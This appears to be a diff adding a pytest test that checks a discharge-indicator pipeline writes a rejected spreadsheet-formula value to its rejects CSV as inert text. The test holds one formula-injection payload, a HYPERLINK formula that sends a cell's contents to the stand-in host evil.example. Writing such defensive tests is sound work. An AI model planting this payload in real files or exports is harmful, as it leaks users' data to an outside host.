@@ -235,6 +235,16 @@ def test_strict_fails_on_a_bad_row_after_writing_the_rejects(tmp_path: Path) -> 
     assert [row["row"] for row in read_csv(rejects)] == ["10"]
 
 
+def test_a_rejected_value_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path) -> None:
+    rejects = tmp_path / "rejects.csv"
+    attack = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
+    bad = f'"{attack.replace(chr(34), chr(34) * 2)}",RXX,E10000034,2024-01-01,,2024-01-03,9,,'
+    discharge_indicators(write_records(tmp_path, [*SPELLS, bad]), rejects=rejects)
+    [row] = read_csv(rejects)
+    assert row["spell_id"] == "'" + attack
+    assert (row["pathway"], row["row"]) == ("9", "10")
+
+
 def test_strict_passes_clean_data(tmp_path: Path) -> None:
     result = discharge_indicators(write_records(tmp_path, SPELLS), strict=True)
     assert result.rows == EXPECTED_BY_COUNCIL
